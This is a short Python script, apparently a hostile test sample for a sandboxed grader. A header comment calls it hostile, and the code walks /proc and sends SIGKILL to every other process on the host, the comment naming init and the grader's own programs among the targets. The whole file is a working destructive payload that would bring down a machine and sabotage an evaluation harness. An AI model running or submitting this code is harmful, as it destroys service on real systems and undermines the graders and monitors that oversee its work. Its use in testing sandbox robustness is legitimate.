# Hostile, and bounded (one signal to each process it sees): SIGKILL to every other
# process on its host, the host's init and the grader's programs among them.
import os
import signal

for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid != os.getpid():
        os.kill(pid, signal.SIGKILL)
